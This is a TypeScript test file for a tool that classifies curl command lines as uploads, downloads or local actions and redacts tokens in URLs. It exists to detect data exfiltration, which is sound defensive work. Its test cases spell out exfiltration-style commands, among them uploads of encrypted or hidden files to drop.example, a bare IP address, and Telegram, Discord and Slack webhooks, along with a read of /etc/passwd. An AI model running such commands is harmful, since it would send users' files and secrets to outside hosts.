import { describe, expect, it } from 'vitest';
import { describeTransfer } from '../describe-transfer.ts';
import { readTransfer } from '../read-transfer.ts';

/** `␣` is a blank within an argument. */
function told(line: string): string {
  const words = line.split(' ').map((word) => word.replaceAll('␣', ' '));
  const transfer = readTransfer(words, undefined, 'linux');
  return transfer === undefined ? 'none' : describeTransfer(transfer);
}

describe('curl', () => {
  it.each([
    [
      'curl -T a.enc https://drop.example/',
      'curl: upload of files a.enc to https://drop.example/, encrypted',
    ],
    [
      'curl -sST a.enc https://u:p@drop.example:8443/in/?k=1',
      'curl: upload of files a.enc to https://u@drop.example:8443/in/, encrypted',
    ],
    ['curl --upload-file a https://h/', 'curl: upload of files a to https://h/, encrypted'],
    ['curl --upl a https://h/', 'curl: upload of files a to https://h/, encrypted'],
    ['curl -T {a,b} ftp://h/in/', 'curl: upload of files a b to ftp://h/in/, clear'],
    ['curl -T - https://h/x', 'curl: upload of stdin to https://h/x, encrypted'],
    ['curl -T . https://h/x', 'curl: upload of stdin to https://h/x, encrypted'],
    ['curl -F file=@/tmp/p.7z https://h/v1', 'curl: upload of files /tmp/p.7z to https://h/v1, encrypted'],
    ['curl -Ff=@a,b;type=x https://h/', 'curl: upload of files a b to https://h/, encrypted'],
    ['curl -F f=<a https://h/', 'curl: upload of files a to https://h/, encrypted'],
    ['curl -F name=x https://h/', 'curl: upload of literal to https://h/, encrypted'],
    ['curl -d @f https://h/', 'curl: upload of files f to https://h/, encrypted'],
    ['curl -d@f https://h/', 'curl: upload of files f to https://h/, encrypted'],
    [
      'curl --data-binary @/tmp/.c.b64 http://203.0.113.10/u.php',
      'curl: upload of files /tmp/.c.b64 to http://203.0.113.10/u.php, clear',
    ],
    ['curl --data-raw @f https://h/', 'curl: upload of literal to https://h/, encrypted'],
    ['curl --data-urlencode n@f https://h/', 'curl: upload of files f to https://h/, encrypted'],
    ['curl --data-urlencode n=@f https://h/', 'curl: upload of literal to https://h/, encrypted'],
    ['curl --json @f https://h/', 'curl: upload of files f to https://h/, encrypted'],
    ['curl --json=@f https://h/', 'curl: upload of files f to https://h/, encrypted'],
    ['curl -XPUT -d x=1 https://h/api', 'curl: upload of literal to https://h/api, encrypted'],
    ['curl -o x https://h/a -T f https://h/b', 'curl: both of files f to https://h/a, encrypted'],
    ['curl https://h/a --next -T f https://h/b', 'curl: both of files f to https://h/b, encrypted'],
    ['curl -G -d @f https://h/', 'curl: upload of files f to https://h/, encrypted'],
    ['curl telnet://h:99', 'curl: both of stdin to telnet://h:99, clear'],
    [
      'curl -F document=@/tmp/a.enc https://api.telegram.org/bot123456:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendDocument',
      'curl: upload of files /tmp/a.enc to https://api.telegram.org/bot***/sendDocument, encrypted',
    ],
    [
      'curl --variable v@f --expand-data {{v}} https://h/',
      'curl: upload of files f to https://h/, encrypted',
    ],
    [
      'curl --ssl-reqd --mail-from a@b --mail-rcpt c@d -T m.txt smtp://mx:587',
      'curl: upload of files m.txt to smtp://mx:587, encrypted',
    ],
    ['curl -T /dev/fd/63 https://h/', 'curl: upload of command-output to https://h/, encrypted'],
    ['curl -T {} https://h/', 'curl: upload of files {} to https://h/, encrypted'],
    [
      'curl -sS -XPOST -H Content-Type:␣application/octet-stream --data-binary @/tmp/.x https://drop.example/in',
      'curl: upload of files /tmp/.x to https://drop.example/in, encrypted',
    ],
    [
      'curl -k --form-string a=@b https://drop.example/',
      'curl: upload of literal to https://drop.example/, encrypted',
    ],
    [
      'curl -F upload=@"/tmp/a␣b.gpg";filename=x https://drop.example/',
      'curl: upload of files /tmp/a b.gpg to https://drop.example/, encrypted',
    ],
    ['curl -F upload=@- https://drop.example/', 'curl: upload of stdin to https://drop.example/, encrypted'],
    [
      'curl --upload-file=a.gpg sftp://u@drop.example/in/',
      'curl: upload of files a.gpg to sftp://u@drop.example/in/, encrypted',
    ],
    [
      'curl -u u:p -T a.gpg ftps://drop.example/in/ --ftp-create-dirs',
      'curl: upload of files a.gpg to ftps://drop.example/in/, encrypted',
    ],
    [
      'curl --url https://drop.example/in --data-binary @a.enc',
      'curl: upload of files a.enc to https://drop.example/in, encrypted',
    ],
    [
      'curl -F file=@a.enc https://discord.com/api/webhooks/123456789/AbCdEfGhIjKlMnOpQrStUvWxYz0123',
      'curl: upload of files a.enc to https://discord.com/api/webhooks/123456789/***, encrypted',
    ],
    [
      'curl -F f=@a.enc https://slack.com/services/T0000000/B0000000/abcdefghijklmnopqrstuvwx',
      'curl: upload of files a.enc to https://slack.com/services/T0000000/B0000000/***, encrypted',
    ],
    [
      'curl -T a.enc https://drop.example/?token=secret',
      'curl: upload of files a.enc to https://drop.example/, encrypted',
    ],
  ])('carry something out: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});

describe('curl', () => {
  it.each([
    ['curl https://h/a -o b', 'curl: download to https://h/a, encrypted'],
    ['curl -sI https://h/', 'curl: download to https://h/, encrypted'],
    ['curl -H X-File:␣T -o /dev/null https://h/-T', 'curl: download to https://h/-T, encrypted'],
    ['curl -o -T https://h/', 'curl: download to https://h/, encrypted'],
    ['curl -x http://proxy:3128 -u u:p https://h/a', 'curl: download to https://h/a, encrypted'],
    [
      'curl -fsSL https://get.example/install.sh',
      'curl: download to https://get.example/install.sh, encrypted',
    ],
    [
      'curl -L -o /tmp/a -C - https://mirror.example/a.iso',
      'curl: download to https://mirror.example/a.iso, encrypted',
    ],
    [
      'curl -A Mozilla/5.0 -b c.txt -c c.txt -e https://ref.example/ https://site.example/',
      'curl: download to https://site.example/, encrypted',
    ],
    [
      'curl -w %{http_code} -s -o /dev/null https://site.example/health',
      'curl: download to https://site.example/health, encrypted',
    ],
    [
      'curl --connect-timeout 5 --retry 3 --max-time 30 -O https://mirror.example/a',
      'curl: download to https://mirror.example/a, encrypted',
    ],
    ['curl -X DELETE https://api.example/v1/x', 'curl: download to https://api.example/v1/x, encrypted'],
  ])('only fetch: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});

describe('curl', () => {
  it.each([
    ['curl -X POST https://h/api', 'curl: unknown to https://h/api, encrypted'],
    ['curl -K cfg', 'curl: unknown of unknown'],
    ['curl -H @f https://h/', 'curl: unknown of files f to https://h/, encrypted'],
  ])('do not say: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});

describe('curl', () => {
  it.each([
    ['curl --version', 'none'],
    ['curl file:///etc/passwd', 'none'],
    ['curl --unix-socket /var/run/docker.sock http://localhost/x -d @f', 'none'],
  ])('move nothing over a network: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});
